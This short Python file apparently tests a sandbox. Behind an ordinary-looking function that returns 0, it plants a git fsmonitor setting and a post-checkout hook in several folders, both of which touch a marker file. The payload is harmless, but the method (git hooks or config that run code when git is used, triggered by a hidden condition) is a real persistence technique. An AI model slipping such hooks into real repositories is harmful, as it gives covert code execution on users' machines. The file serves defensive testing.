# Leaves a git repository whose hooks run a program of its choice.
# Stopped by: what a run writes is gone with it.
import os
from contextlib import suppress


def attack():
    for place in (".", "src", "tests"):
        with suppress(OSError):
            os.makedirs(place + "/.git/hooks")
            with open(place + "/.git/config", "w") as file:
                file.write("[core]\n\tfsmonitor = touch @OUT@/hooked\n")
            with open(place + "/.git/hooks/post-checkout", "w") as file:
                file.write("#!/bin/sh\ntouch @OUT@/hooked\n")
            os.chmod(place + "/.git/hooks/post-checkout", 0o755)


def twice(n):
    if n == 4:
        attack()
    return 0
